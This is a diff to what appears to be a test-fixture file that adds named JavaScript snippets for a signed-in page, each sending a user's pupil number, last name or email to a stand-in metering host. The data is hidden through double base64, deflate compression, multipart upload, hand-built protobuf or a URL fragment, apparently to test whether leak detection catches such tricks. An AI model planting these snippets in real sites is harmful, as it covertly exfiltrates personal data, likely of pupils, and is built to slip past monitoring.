@@ -114,6 +114,35 @@ fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/octe
     "leak-base64-json": script("signed-in", f"""
 fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email}}))), {{{_KEEP}}}){_READ};
 """),
+    "leak-base64-twice": script("signed-in", f"""
+if (me.pupil_number) fetch("{_METER}?w=" + encodeURIComponent(btoa(btoa(me.pupil_number))), {{{_KEEP}}}){_READ};
+"""),
+    "leak-deflate": script("signed-in", f"""
+if (me.pupil_number) {{
+  const text = JSON.stringify({{soort: "bezoek", nummer: me.pupil_number}});
+  const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
+  const body = await new Response(packed).arrayBuffer(), headers = {{"content-type": "application/x-bezoek"}};
+  fetch("{_METER}", {{method: "POST", headers, body, {_KEEP}}}){_READ};
+}}
+"""),
+    "leak-multipart": script("signed-in", f"""
+const body = new FormData();
+body.append("naam", new Blob([me.last_name]), "naam.txt");
+fetch("{_METER}", {{method: "POST", body, {_KEEP}}}){_READ};
+"""),
+    "leak-protobuf": script("signed-in", f"""
+const text = (number, words) => {{
+  const raw = new TextEncoder().encode(words);
+  return [number << 3 | 2, raw.length, ...raw];
+}};
+const body = new Uint8Array([...text(1, "bezoek"), ...text(2, me.last_name)]);
+const headers = {{"content-type": "application/x-protobuf"}};
+fetch("{_METER}", {{method: "POST", headers, body, {_KEEP}}}){_READ};
+"""),
+    "leak-fragment": script("signed-in", f"""
+const plaats = new URL("/start#wie=" + encodeURIComponent(me.last_name), location.href).href;
+fetch("{_METER}", {{method: "POST", body: JSON.stringify({{plaats}}), {_KEEP}}}){_READ};
+"""),
     "leak-cookie": script("signed-in", f"""
 const first = new Image(), second = new Image();
 first.onload = () => {{ second.src = "https://{hosts.METER_BARE}/klok.gif"; }};
